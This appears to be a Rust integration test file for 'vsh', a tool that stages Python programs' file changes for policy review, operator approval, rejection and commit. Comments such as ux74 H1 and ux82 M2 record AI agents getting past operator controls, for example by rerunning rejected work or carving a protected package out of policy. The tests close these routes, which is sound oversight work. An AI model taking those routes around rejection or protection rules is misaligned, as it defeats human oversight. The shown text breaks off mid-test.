//! The `vsh` binary: exit codes, output forms and the demo.
// Tests and benchmarks build and inspect their fixtures by path.
#![allow(clippy::disallowed_methods)]

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// `vsh ARGS` with an empty environment but `PATH` (the operator's own).
fn vsh_on_path(args: &[&str], path: &str) -> Output {
    Command::new(env!("CARGO_BIN_EXE_vsh")).args(args).env_clear().env("PATH", path).output().unwrap()
}

fn vsh(args: &[&str], stdin: Option<&str>) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_vsh"));
    command.args(args).env_clear();
    if let Some(input) = stdin {
        use std::io::Write;
        let mut child = command
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        // A command that refuses its arguments exits before reading stdin.
        let _ = child.stdin.take().unwrap().write_all(input.as_bytes());
        return child.wait_with_output().unwrap();
    }
    command.output().unwrap()
}

fn write(root: &Path, relative: &str, contents: &str) {
    std::fs::create_dir_all(root.join(relative).parent().unwrap()).unwrap();
    std::fs::write(root.join(relative), contents).unwrap();
}

/// The transaction id a text receipt names.
/// Whether the tests run as root (effective uid 0).
fn is_root() -> bool {
    std::fs::read_to_string("/proc/self/status").is_ok_and(|status| {
        status.lines().any(|line| line.starts_with("Uid:") && line.split_whitespace().nth(2) == Some("0"))
    })
}

fn id_of(output: &Output) -> String {
    let stdout = String::from_utf8_lossy(&output.stdout);
    let line = stdout
        .lines()
        .find(|line| line.starts_with("transaction"))
        .unwrap_or_else(|| panic!("a transaction line: {stdout}\n{}", String::from_utf8_lossy(&output.stderr)));
    line.split_whitespace().last().expect("an id").to_owned()
}

/// Rejected work's commit says an operator rejected it, with no step to do
/// it anyway; a rerun of it takes --again (ux74 H1: an agent on the command
/// line followed `vsh rerun` to commit it).
fn rejected_work_is_no_next_step(ws: &str, id: &str) {
    let refused = vsh(&["commit", "--workspace", ws, id], None);
    let said = String::from_utf8_lossy(&refused.stderr);
    assert!(said.contains("an operator rejected it") && !said.contains("next: `vsh rerun"), "{said}");
    let rerun = vsh(&["rerun", id, "--mode", "auto", "--workspace", ws], None);
    assert_eq!(rerun.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&rerun.stderr).contains("--again"), "{}", String::from_utf8_lossy(&rerun.stderr));
    assert_eq!(vsh(&["rerun", id, "--again", "--workspace", ws], None).status.code(), Some(0));
}

/// Run `program` as a preview in `ws`; its transaction's id.
fn previewed(ws: &str, program: &str) -> String {
    let ran = vsh(&["run", "--workspace", ws, "--json", "-"], Some(program));
    let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout).unwrap();
    receipt["transaction"].as_str().unwrap()[..12].to_owned()
}

/// ux81 M1: an agent's retry made the same change as its first run; one
/// was committed, the other went stale, and its next step, `vsh rerun`,
/// made the change twice. Nothing is left to do, and the rerun is refused
/// (unless asked again); work whose other reads changed runs again as
/// before. ux81 M4: work made under a replaced policy whose rerun is
/// committed is not to run again either: dropping it is the next step.
#[test]
fn work_whose_changes_are_made_already_is_not_run_again() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    write(dir.path(), "CHANGELOG", "# log\n");
    let append = "from pathlib import Path\np = Path('CHANGELOG')\np.write_text(p.read_text() + '- fix\\n')";
    let (first, retry) = (previewed(ws, append), previewed(ws, append));
    assert_eq!(vsh(&["commit", "-q", "--workspace", ws, &first], None).status.code(), Some(0));
    let stale = vsh(&["commit", "--workspace", ws, &retry], None);
    let said = String::from_utf8_lossy(&stale.stderr);
    assert_eq!(stale.status.code(), Some(6), "{said}");
    assert!(said.contains("nothing is left to do: the workspace holds every change it makes already"), "{said}");
    assert!(!said.contains("vsh rerun") && !said.contains("make it again"), "{said}");
    // While another process holds the commit lock, a rerun waits for it
    // and, past --lock-timeout, runs nothing (sec89 M1: the wait's timeout
    // read as "not held", and the rerun made the change twice); a review
    // or a listing does not wait for it at all (sec89 M2), and says
    // nothing of work done (sec90 L2: a commit seen half applied).
    let waiting = previewed(ws, "from pathlib import Path\nPath('CHANGELOG').unlink()");
    let lock = std::fs::File::open(dir.path().join(".vsh/commit.lock")).unwrap();
    rustix::fs::flock(&lock, rustix::fs::FlockOperation::LockExclusive).unwrap();
    let rerun = vsh(&["rerun", "--workspace", ws, "--lock-timeout", "1", &retry], None);
    let started = std::time::Instant::now();
    let shown = String::from_utf8(vsh(&["show", "--workspace", ws, &retry], None).stdout).unwrap();
    let listed = vsh(&["pending", "--workspace", ws], None);
    assert!(started.elapsed() < std::time::Duration::from_secs(30) && listed.status.success(), "{listed:?}");
    assert!(String::from_utf8_lossy(&listed.stdout).contains(&waiting), "{listed:?}");
    drop(lock);
    assert_eq!(vsh(&["reject", "-q", "--workspace", ws, &waiting], None).status.code(), Some(0));
    assert_eq!(rerun.status.code(), Some(75), "{rerun:?}");
    assert!(String::from_utf8_lossy(&rerun.stderr).contains("another vsh process holds the commit lock"), "{rerun:?}");
    assert!(!shown.contains("nothing: the workspace holds"), "{shown}");
    assert_eq!(std::fs::read_to_string(dir.path().join("CHANGELOG")).unwrap(), "# log\n- fix\n");
    // The lock free again, the rerun is refused as before.
    let rerun = vsh(&["rerun", "--workspace", ws, &retry], None);
    assert!(String::from_utf8_lossy(&rerun.stderr).contains(&format!("`vsh rerun {retry} --again`")), "{rerun:?}");
    // Its changes made since, but what it read changed too: it runs again.
    write(dir.path(), "src.txt", "one\n");
    let copy = previewed(ws, "vsh_write('out.txt', vsh_read('src.txt'))");
    write(dir.path(), "out.txt", "one\n");
    write(dir.path(), "src.txt", "two\n");
    let stale = vsh(&["commit", "--workspace", ws, &copy], None);
    let said = String::from_utf8_lossy(&stale.stderr);
    assert!(said.contains(&format!("next: `vsh rerun {copy}`")) && !said.contains("nothing is left"), "{said}");
    // Made under a policy since replaced, and its rerun committed.
    let policy = dir.path().join("review.toml");
    init_with_policy(ws, &policy, "version = 1\n[[review]]\npattern = \"CHANGELOG\"\nchanges = \"modify\"\n");
    let waiting = previewed(ws, append);
    assert_eq!(vsh(&["init", "-q", "--force", "--workspace", ws], None).status.code(), Some(0));
    let landed = vsh(&["rerun", "--workspace", ws, "--mode", "auto", &waiting], None);
    assert_eq!(landed.status.code(), Some(0), "{landed:?}");
    let pending = String::from_utf8(vsh(&["pending", "--workspace", ws], None).stdout).unwrap();
    assert!(
        pending.contains(&format!("{waiting}: nothing is left to do: another run of the same work"))
            && pending.contains(&format!("`vsh reject --only {waiting}` drops it")),
        "{pending}"
    );
    let approve = vsh(&["approve", "--workspace", ws, &waiting], None);
    let said = String::from_utf8_lossy(&approve.stderr);
    assert!(said.contains(&format!("next: `vsh reject --only {waiting}`")) && !said.contains("vsh rerun"), "{said}");
    // Its commit and its rerun say the same (ux82 L1).
    let commit = vsh(&["commit", "--workspace", ws, &waiting], None);
    let said = String::from_utf8_lossy(&commit.stderr);
    assert!(
        said.contains(&format!("next: `vsh reject --only {waiting}`")) && !said.contains("run its program"),
        "{said}"
    );
    let rerun = vsh(&["rerun", "--workspace", ws, &waiting], None);
    let said = String::from_utf8_lossy(&rerun.stderr);
    assert!(said.contains(&format!("`vsh reject --only {waiting}` drops this one")), "{said}");
    // `vsh log` lists finished work; waiting work is `vsh pending`'s.
    let log = vsh(&["log", "--workspace", ws, "--state", "pending"], None);
    assert!(String::from_utf8_lossy(&log.stderr).contains("vsh pending lists work that waits"), "{log:?}");
}

/// ux82 M2: `vsh init --workspace packages/billing` inside a workspace
/// whose policy protects the package took it out from under that rule,
/// unasked and (with -q) unsaid, and a change to it was then committed.
/// A workspace inside another whose operator's rules reach into it is made
/// only with --force, and the rules are named; its warning is said under -q.
#[test]
fn a_workspace_is_not_carved_out_of_the_rules_that_reach_it_unasked() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    write(dir.path(), "packages/billing/src/rates.py", "r = 0.21\n");
    write(dir.path(), "packages/web/index.js", "1\n");
    let policy = dir.path().join("p.toml");
    let text = "version = 1\n[[protect]]\npattern = \"packages/billing/src/**\"\naccess = \"mutations\"\nreason = \"payments team\"\n";
    init_with_policy(ws, &policy, text);
    let billing = dir.path().join("packages/billing");
    let refused = vsh(&["init", "-q", "--workspace", billing.to_str().unwrap()], None);
    let said = String::from_utf8_lossy(&refused.stderr);
    assert_eq!(refused.status.code(), Some(1), "{said}");
    assert!(
        said.contains("[[protect]] `packages/billing/src/**`: payments team") && said.contains("--force"),
        "{said}"
    );
    assert!(!billing.join(".vsh").exists());
    // One no rule reaches is made as before, and said so under -q too.
    let web = vsh(&["init", "-q", "--workspace", dir.path().join("packages/web").to_str().unwrap()], None);
    assert_eq!(web.status.code(), Some(0), "{web:?}");
    assert!(
        String::from_utf8_lossy(&web.stderr).contains("warning: ") && dir.path().join("packages/web/.vsh").is_dir()
    );
    // Asked for, it is made.
    let forced = vsh(&["init", "-q", "--force", "--workspace", billing.to_str().unwrap()], None);
    assert_eq!(forced.status.code(), Some(0), "{forced:?}");
    assert!(billing.join(".vsh").is_dir());
}

/// ux82 L9: `vsh reject` takes several transactions: each rejected as
/// alone, none when a name names no transaction; not with --json.
#[test]
fn several_transactions_are_rejected_in_one_command() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    for name in ["a", "b", "c"] {
        write(dir.path(), name, "x\n");
    }
    let remove = |name: &str| previewed(ws, &format!("from pathlib import Path\nPath('{name}').unlink()"));
    let ids: Vec<String> = ["a", "b", "c"].into_iter().map(remove).collect();
    let state = |id: &str| {
        let shown = vsh(&["show", "--workspace", ws, "--json", id], None);
        let document: serde_json::Value = serde_json::from_slice(&shown.stdout).unwrap();
        document["receipt"]["state"].as_str().unwrap_or_default().to_owned()
    };
    let unknown = vsh(&["reject", "--workspace", ws, &ids[0], "abcdef1234"], None);
    assert_eq!(unknown.status.code(), Some(1), "{unknown:?}");
    assert!(String::from_utf8_lossy(&unknown.stderr).contains("nothing was rejected"), "{unknown:?}");
    assert_eq!(state(&ids[0]), "pending-approval", "nothing is rejected when a name names none");
    let json = vsh(&["reject", "--workspace", ws, "--json", &ids[0], &ids[1]], None);
    assert_eq!(json.status.code(), Some(2), "{json:?}");
    let rejected = vsh(&["reject", "--workspace", ws, &ids[0], &ids[1], &ids[2]], None);
    assert_eq!(rejected.status.code(), Some(0), "{rejected:?}");
    for id in &ids {
        assert_eq!(state(id), "rejected", "{id}");
    }
    // One that cannot be is said, once by its id, and the rest go on.
    let committed = id_of(&vsh(&["run", "--workspace", ws, "--mode", "auto", "-"], Some("vsh_write('n', 'n')")));
    let mixed = vsh(&["reject", "--workspace", ws, &committed, &ids[0]], None);
    let said = String::from_utf8_lossy(&mixed.stderr);
    assert_eq!(mixed.status.code(), Some(1), "{said}");
    assert!(
        said.contains("cannot be rejected: it is committed") && said.matches(&committed[..12]).count() == 2,
        "{said}"
    );
}

/// `--workspace` goes before the command's name too (ux80 L7); given
/// twice, the two must agree; a command with no workspace refuses it.
#[test]
fn the_workspace_is_named_before_or_after_the_command() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    let program = "from pathlib import Path\nPath('/workspace/b.txt').write_text('b')";
    assert_eq!(vsh(&["run", "--workspace", ws, "--mode", "auto", "-"], Some(program)).status.code(), Some(0));
    let before = vsh(&["--workspace", ws, "log"], None);
    assert!(String::from_utf8_lossy(&before.stdout).contains("committed"), "{before:?}");
    assert_eq!(vsh(&["-w", ws, "log", "-w", ws], None).status.code(), Some(0));
    // The same directory however spelt (sec89 L5).
    let name = dir.path().file_name().unwrap().to_str().unwrap();
    assert_eq!(vsh(&["-w", ws, "log", "-w", &format!("{ws}/../{name}")], None).status.code(), Some(0));
    let twice = vsh(&["-w", ws, "log", "-w", "/"], None);
    assert_eq!(twice.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&twice.stderr).contains("--workspace is given twice"), "{twice:?}");
    assert_eq!(vsh(&["-w", ws, "guide"], None).status.code(), Some(2));
}

#[test]
fn exit_codes_follow_the_table_row_by_row() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    write(dir.path(), "old.txt", "old\n");
    write(dir.path(), "gone.txt", "gone\n");
    write(dir.path(), ".env", "SECRET=1\n");
    let ws = dir.path().to_str().unwrap();
    let code = |output: &Output| output.status.code();
    let create = "from pathlib import Path\nPath('/workspace/b.txt').write_text('b')";
    let delete = "from pathlib import Path\nPath('/workspace/old.txt').unlink()";
    let secret = "from pathlib import Path\ntry:\n    Path('/workspace/.env').write_text('x')\nexcept PermissionError:\n    pass";

    // 0: a preview was made, whatever its decision.
    for program in [create, delete, secret] {
        let preview = vsh(&["run", "--workspace", ws, "-"], Some(program));
        assert_eq!(code(&preview), Some(0), "{program}: {}", String::from_utf8_lossy(&preview.stderr));
    }
    assert!(!dir.path().join("b.txt").exists());
    // Quiet keeps a preview that waits for its commit: one line, its id and next step.
    let quiet = vsh(&["run", "-q", "--workspace", ws, "-"], Some(create));
    let said = String::from_utf8_lossy(&quiet.stderr);
    assert!(quiet.stdout.is_empty() && said.lines().count() == 1, "{said}");
    assert!(said.contains("is auto-approved, 1 changed path; next: vsh commit "), "{said}");
    // With --detailed-exitcode, a preview exits with its state: 3 auto-approved, 4 pending, 5 denied.
    for (program, state) in [(create, 3), (delete, 4), (secret, 5)] {
        let preview = vsh(&["--detailed-exitcode", "run", "--workspace", ws, "-"], Some(program));
        assert_eq!(code(&preview), Some(state), "{program}");
        let preview = vsh(&["run", "--detailed-exitcode", "--workspace", ws, "-"], Some(program));
        assert_eq!(code(&preview), Some(state), "the flag goes after the command too: {program}");
    }

    // 0: a commit landed (and with --detailed-exitcode, committed is 0 too).
    let committed = vsh(&["run", "--workspace", ws, "--mode", "auto", "-"], Some(create));
    assert_eq!(code(&committed), Some(0), "{}", String::from_utf8_lossy(&committed.stderr));
    assert_eq!(std::fs::read_to_string(dir.path().join("b.txt")).unwrap(), "b");
    let again = "from pathlib import Path\nPath('/workspace/c.txt').write_text('c')";
    assert_eq!(code(&vsh(&["--detailed-exitcode", "run", "-w", ws, "--mode", "auto", "-"], Some(again))), Some(0));

    // 4: asked to commit, and it awaits approval (auto mode; commit before approval).
    let pending = vsh(&["run", "--workspace", ws, "--mode", "auto", "-"], Some(delete));
    assert_eq!(code(&pending), Some(4));
    assert!(dir.path().join("old.txt").exists());
    let early = vsh(&["commit", &id_of(&pending), "--workspace", ws], None);
    assert_eq!(code(&early), Some(4), "{}", String::from_utf8_lossy(&early.stderr));
    // Quiet still says which work waits, so its id is not lost.
    let quiet = vsh(&["run", "-q", "--workspace", ws, "--mode", "auto", "-"], Some(delete));
    let said = String::from_utf8_lossy(&quiet.stderr);
    assert_eq!(code(&quiet), Some(4));
    assert!(quiet.stdout.is_empty() && said.lines().count() == 1, "{said}");
    assert!(said.contains("is pending-approval") && said.contains("vsh approve "), "{said}");

    // 5: asked to commit, and policy denied it.
    let denied = vsh(&["run", "--workspace", ws, "--mode", "auto", "-"], Some(secret));
    assert_eq!(code(&denied), Some(5));
    assert_eq!(std::fs::read_to_string(dir.path().join(".env")).unwrap(), "SECRET=1\n");
    // Quiet prints only errors: a denial is one, on one line with its reason.
    let quiet = vsh(&["run", "-q", "--workspace", ws, "--mode", "auto", "-"], Some(secret));
    let said = String::from_utf8_lossy(&quiet.stderr);
    assert_eq!(code(&quiet), Some(5));
    assert!(quiet.stdout.is_empty() && said.lines().count() == 1, "{said}");
    assert!(said.contains("is denied (protected-access-attempt): ") && said.contains(".env"), "{said}");

    // 6: asked to commit, and the workspace changed under the transaction; the path is named.
    let remove = "from pathlib import Path\nPath('/workspace/gone.txt').unlink()";
    let stale = vsh(&["run", "--workspace", ws, "-"], Some(remove));
    let id = id_of(&stale);
    assert_eq!(code(&vsh(&["approve", &id, "--workspace", ws], None)), Some(0));
    write(dir.path(), "gone.txt", "edited meanwhile\n");
    let refused = vsh(&["commit", &id, "--workspace", ws], None);
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert_eq!(code(&refused), Some(6), "{stderr}");
    assert!(stderr.contains("  gone.txt  "), "{stderr}");
    assert_eq!(std::fs::read_to_string(dir.path().join("gone.txt")).unwrap(), "edited meanwhile\n");

    // `show --detailed-exitcode` exits with the state the transaction is in
    // now, whatever its decision was: a stored receipt or only a record.
    let shown = |id: &str| code(&vsh(&["--detailed-exitcode", "show", "-q", id, "--workspace", ws], None));
    assert_eq!(shown(&id), Some(6), "stale");
    assert_eq!(shown(&id_of(&denied)), Some(5), "denied");
    assert_eq!(shown(&id_of(&committed)), Some(0), "committed");
    assert_eq!(shown(&id_of(&pending)), Some(4), "pending");
    let rejected = vsh(&["run", "--workspace", ws, "-"], Some(delete));
    assert_eq!(code(&vsh(&["reject", &id_of(&rejected), "--workspace", ws], None)), Some(0));
    assert_eq!(shown(&id_of(&rejected)), Some(7), "rejected");
    // A commit of it is an error (1), or with --detailed-exitcode its state (7).
    let commit = |detailed: bool| {
        let mut args = vec!["commit", "--workspace", ws];
        if detailed {
            args.insert(0, "--detailed-exitcode");
        }
        let id = id_of(&rejected);
        args.push(&id);
        code(&vsh(&args, None))
    };
    assert_eq!((commit(false), commit(true)), (Some(1), Some(7)), "a rejected commit");
    rejected_work_is_no_next_step(ws, &id_of(&rejected));

    // 1: an error; 2: usage.
    let broken = vsh(&["run", "--workspace", ws, "-"], Some("raise ValueError('no')"));
    assert_eq!(code(&broken), Some(1));
    assert!(String::from_utf8_lossy(&broken.stderr).contains("ValueError"));
    // What it had changed before it raised is named, and kept nowhere (ux65 F6).
    let wrote = vsh(
        &["run", "--workspace", ws, "-"],
        Some("from pathlib import Path\nPath('half.txt').write_text('h')\nraise ValueError('no')"),
    );
    let stderr = String::from_utf8_lossy(&wrote.stderr);
    assert_eq!(code(&wrote), Some(1));
    assert!(
        stderr.contains("the program had changed 1 path in its image (nothing is stored: a Monty program that raises")
            && stderr.contains("vsh:   create  half.txt"),
        "{stderr}"
    );
    assert!(!Path::new(ws).join("half.txt").exists());
    assert_eq!(vsh(&["run", "--mode", "sideways", "x.py"], None).status.code(), Some(2));
    // --detailed-exitcode only where the result is a transaction's state:
    // after the command's name it is unknown elsewhere, before it refused.
    for args in [["pending", "--detailed-exitcode"], ["--detailed-exitcode", "pending"]] {
        let misplaced = vsh(&[&args[..], &["--workspace", ws]].concat(), None);
        assert_eq!(code(&misplaced), Some(2), "{args:?}: {}", String::from_utf8_lossy(&misplaced.stderr));
    }
}

#[test]
fn json_receipt_is_machine_readable() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "n.txt", "41");
    let program_path = dir.path().join("program.py");
    std::fs::write(&program_path, "from pathlib import Path\nint(Path('/workspace/n.txt').read_text()) + 1").unwrap();
    let workspace = dir.path().join("ws");
    std::fs::create_dir(&workspace).unwrap();
    std::fs::rename(dir.path().join("n.txt"), workspace.join("n.txt")).unwrap();
    let output = vsh(
        &["run", "--workspace", workspace.to_str().unwrap(), "--json", "--full", program_path.to_str().unwrap()],
        None,
    );
    assert_eq!(output.status.code(), Some(0), "a preview was made");
    let value: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(value["value"], serde_json::json!(42));
    assert_eq!(value["state"], "auto-approved");
    assert_eq!(value["decision"]["kind"], "auto-approved");
    assert_eq!(value["changed_paths"], 0);
    assert_eq!(value["transaction"].as_str().unwrap().len(), 64);
}

#[test]
fn demo_runs_twice_and_reports_both_receipts() {
    for _ in 0..2 {
        let output = vsh(&["demo"], None);
        let stdout = String::from_utf8_lossy(&output.stdout);
        assert_eq!(output.status.code(), Some(0), "{stdout}\n{}", String::from_utf8_lossy(&output.stderr));
        assert!(stdout.contains("== preview receipt"), "{stdout}");
        assert!(stdout.contains("== commit receipt"), "{stdout}");
        assert!(stdout.contains("state        committed"), "{stdout}");
        assert!(stdout.contains("3 open items"), "{stdout}");
        assert!(stdout.contains("decision     denied"), "{stdout}");
        // It ends with where to go from here (ux53).
        assert!(stdout.trim_end().ends_with("(README: On your own project)"), "{stdout}");
    }
    // Quiet: one line saying it held.
    let quiet = vsh(&["demo", "-q"], None);
    assert_eq!(quiet.status.code(), Some(0), "{}", String::from_utf8_lossy(&quiet.stderr));
    assert_eq!(String::from_utf8_lossy(&quiet.stdout), "vsh demo: previewed, committed and denied as expected\n");
}

#[test]
fn review_of_a_multi_file_change_matches_the_golden_file() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    write(&ws, "src/lib.txt", "alpha\nbeta\ngamma\ndelta\n");
    write(&ws, "notes.txt", "keep this line\nand remove this one\n");
    std::fs::write(ws.join("old.bin"), [0u8, 159, 146, 150]).unwrap();
    // A file deleted unread is known by its stamp once the stamp has settled
    // (100 ms after its last change) and hashed before that; wait, so the
    // golden file shows the same one every time however busy the machine is.
    std::thread::sleep(std::time::Duration::from_millis(300));
    let program = r"
from pathlib import Path
root = Path('/workspace')
lib = (root / 'src' / 'lib.txt').read_text()
(root / 'src' / 'lib.txt').write_text(lib.replace('beta', 'BETA').replace('delta', 'delta\nepsilon'))
(root / 'notes.txt').write_text('keep this line\n')
(root / 'docs').mkdir()
(root / 'docs' / 'NEW.md').write_text('# New\n\nA new page.\n')
(root / 'old.bin').unlink()
";
    let output =
        vsh(&["--detailed-exitcode", "run", "--workspace", ws.to_str().unwrap(), "--full", "-"], Some(program));
    assert_eq!(output.status.code(), Some(4), "{}", String::from_utf8_lossy(&output.stderr));
    let stdout = String::from_utf8(output.stdout).unwrap();
    let review = &stdout[stdout.find("review\n").expect("a review block")..];
    let golden_path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden/review.txt");
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(&golden_path, review).unwrap();
    }
    let golden = std::fs::read_to_string(&golden_path).expect("golden file (UPDATE_GOLDEN=1 writes it)");
    assert_eq!(review, golden);
}

#[test]
fn profiles_and_policy_files_change_the_decision() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    write(&ws, "a.txt", "a\n");
    let ws_arg = ws.to_str().unwrap();
    let create = "from pathlib import Path\nPath('/workspace/b.txt').write_text('b')";
    let state = |extra: &[&str]| {
        let mut args = vec!["--detailed-exitcode", "run", "--workspace", ws_arg];
        args.extend_from_slice(extra);
        args.push("-");
        vsh(&args, Some(create)).status.code()
    };
    assert_eq!(state(&[]), Some(3));
    assert_eq!(state(&["--profile", "strict"]), Some(4));

    let policy = dir.path().join("policy.toml");
    std::fs::write(&policy, "version = 1\n[[protect]]\npattern = \"b.txt\"\naccess = \"create\"\nreason = \"test\"\n")
        .unwrap();
    let denied =
        vsh(&["run", "--workspace", ws_arg, "--policy", policy.to_str().unwrap(), "--mode", "auto", "-"], Some(create));
    assert_eq!(denied.status.code(), Some(5), "an uncaught PermissionError is a denial");
    assert!(String::from_utf8_lossy(&denied.stdout).contains("PermissionError"));
    assert!(!ws.join("b.txt").exists());

    // A ceiling names no access: the text receipt gives the threshold to
    // raise, as -q and the review do (ux49 L3).
    std::fs::write(&policy, "version = 1\n[thresholds]\nescalate_touched_paths = 1\ndeny_touched_paths = 1\n").unwrap();
    let two = format!("{create}\nPath('/workspace/c.txt').write_text('c')");
    let ceiling = vsh(&["run", "--workspace", ws_arg, "--policy", policy.to_str().unwrap(), "-"], Some(&two));
    let text = String::from_utf8_lossy(&ceiling.stdout);
    assert!(text.contains("decision     denied") && text.contains("  to allow   raise thresholds."), "{text}");

    std::fs::write(&policy, "version = 1\n[thresholds]\ndeny_touched_paths = \"lots\"\n").unwrap();
    let bad = vsh(&["run", "--workspace", ws_arg, "--policy", policy.to_str().unwrap(), "-"], Some(create));
    assert_eq!(bad.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&bad.stderr).contains("thresholds.deny_touched_paths"),
        "{}",
        String::from_utf8_lossy(&bad.stderr)
    );
}

/// `[[review]]` rules (ux64 F4): deleting a test waits for a reviewer, a
/// tenth of a test file cut escalates, and the same changes elsewhere are
/// auto-approved; the receipt and the review say which rule held it.
#[test]
fn a_review_rule_has_changes_to_its_paths_wait_and_says_which_rule() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    let module: String = (0..30)
        .map(|i| format!("def case_{i}():\n    assert compute_{i}(value_{i}) == {}\n", i * 7))
        .collect::<Vec<_>>()
        .concat();
    write(&ws, "tests/test_a.py", &module);
    write(&ws, "tests/test_b.py", "def test_b():\n    assert True\n");
    write(&ws, "src/app.py", &module);
    write(&ws, "src/old.py", "old = 1\n");
    let ws_arg = ws.to_str().unwrap();
    let policy = dir.path().join("policy.toml");
    std::fs::write(
        &policy,
        concat!(
            "version = 1\n[[review]]\npattern = \"tests/**\"\nchanges = \"delete\"\nreason = \"tests guard the build\"\n",
            "[[review]]\npattern = \"tests/**\"\nrewrite_escalate_ratio = 0.1\n"
        ),
    )
    .unwrap();
    assert_eq!(
        vsh(&["init", "--policy", policy.to_str().unwrap(), "--workspace", ws_arg], None).status.code(),
        Some(0)
    );
    let shown = String::from_utf8(vsh(&["policy", "show", "--workspace", ws_arg], None).stdout).unwrap();
    assert!(shown.contains("[[review]]") && shown.contains("rewrite_escalate_ratio = 0.1"), "{shown}");
    // A rule that does nothing is valid, and noted (ux66 F6).
    let idle = dir.path().join("idle.toml");
    std::fs::write(&idle, "version = 1\n[[review]]\npattern = \"docs/**\"\nrewrite_escalate_ratio = 0.9\n").unwrap();
    let checked = vsh(&["policy", "check", idle.to_str().unwrap()], None);
    assert_eq!(checked.status.code(), Some(0));
    let note = String::from_utf8_lossy(&checked.stderr);
    assert!(note.contains("vsh: note: review rule `docs/**` has no effect"), "{note}");
    let auto = |program: &str| {
        let output = vsh(&["run", "--workspace", ws_arg, "--mode", "auto", "-"], Some(program));
        let text = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
        (text, output)
    };
    let cut = |path: &str| {
        format!(
            "from pathlib import Path\np = Path('/workspace/{path}')\nt = p.read_text()\np.write_text(t[:len(t) * 7 // 10])"
        )
    };
    // A 30% cut: past the rule's 0.1 under tests/, within the profile's 0.5 elsewhere.
    let (text, output) = auto(&cut("tests/test_a.py"));
    assert!(text.contains("pending-approval") && text.contains("content-rewrite"), "{text}");
    assert!(!text.contains("review-rule"), "a modify is not among the rule's changes: {text}");
    let numbers = format!(
        "of its {} reviewed bytes lost in all with this run (more than {} waits for a review)",
        module.len(),
        module.len() / 10
    );
    assert!(text.contains("content-rewrite: tests/test_a.py: ") && text.contains(&numbers), "{text}");
    // A review later tells the same (ux65 F1: only the run did).
    let review = vsh(&["show", "--workspace", ws_arg, &id_of(&output)], None);
    let review = format!("{}{}", String::from_utf8_lossy(&review.stdout), String::from_utf8_lossy(&review.stderr));
    assert!(review.contains(&numbers), "{review}");
    assert_eq!(std::fs::read_to_string(ws.join("tests/test_a.py")).unwrap(), module);
    let (text, _) = auto(&cut("src/app.py"));
    assert!(text.contains("committed"), "{text}");
    assert_ne!(std::fs::read_to_string(ws.join("src/app.py")).unwrap(), module);
    // Deleting a test waits, and says by which rule; deleting elsewhere waits
    // only for the profile's deletion flag.
    let (text, output) = auto("from pathlib import Path\nPath('/workspace/tests/test_b.py').unlink()");
    assert!(text.contains("risk flags deletion, review-rule"), "{text}");
    let why = "tests/test_b.py (delete): `tests/**` reviews delete, rewrite ratio 0.1: tests guard the build";
    assert!(text.contains(why), "{text}");
    assert!(ws.join("tests/test_b.py").exists());
    // In the review's decision, on stdout (ux66 F3: on stderr, after it).
    let review = vsh(&["show", "--workspace", ws_arg, &id_of(&output)], None);
    let review = String::from_utf8_lossy(&review.stdout);
    assert!(
        review.contains(&format!("  why        review-rule: the policy has these changes wait for a reviewer: {why}")),
        "{review}"
    );
    let (text, _) = auto("from pathlib import Path\nPath('/workspace/src/old.py').unlink()");
    assert!(text.contains("risk flags deletion") && !text.contains("review-rule"), "{text}");
}

#[test]
fn a_per_run_policy_is_recorded_with_its_transaction_and_used_to_review_approve_and_commit_it() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let ws = dir.path().to_str().unwrap();
    let create = "from pathlib import Path\nPath('b.txt').write_text('b')";
    // The workspace's policy is balanced (auto-approves this); the run asks for strict.
    let run = vsh(&["run", "--workspace", ws, "--profile", "strict", "-"], Some(create));
    assert_eq!(run.status.code(), Some(0), "{}", String::from_utf8_lossy(&run.stderr));
    let id = id_of(&run);
    assert!(String::from_utf8_lossy(&run.stdout).contains("pending-approval"));
    let own = "warning: decided under a policy of its own (profile strict,";
    assert!(String::from_utf8_lossy(&run.stderr).contains(own), "an override is said out loud: {run:?}");
    let shown = vsh(&["show", &id[..8], "--workspace", ws], None);
    let text = String::from_utf8_lossy(&shown.stdout);
    assert_eq!(shown.status.code(), Some(0), "{}", String::from_utf8_lossy(&shown.stderr));
    assert!(text.contains("made under a per-run policy (profile strict"), "{text}");
    assert!(text.contains("+b"), "the review has its hunks: {text}");
    // Listed as waiting for its approval, not as made under a policy since
    // replaced (ux79 M3).
    let pending = vsh(&["pending", "--workspace", ws, "--json"], None);
    let listed: serde_json::Value = serde_json::from_slice(&pending.stdout).unwrap();
    let row = listed["transactions"].as_array().unwrap().iter().find(|row| row["transaction"] == id.as_str()).cloned();
    assert_eq!(row.as_ref().map(|row| &row["policy_changed"]), Some(&serde_json::json!(false)), "{listed}");
    let listed = vsh(&["pending", "--workspace", ws], None);
    let text = format!("{}{}", String::from_utf8_lossy(&listed.stdout), String::from_utf8_lossy(&listed.stderr));
    assert!(text.contains("pending-approval") && !text.contains("policy-changed"), "{text}");
    let approved = vsh(&["approve", &id[..8], "--workspace", ws], None);
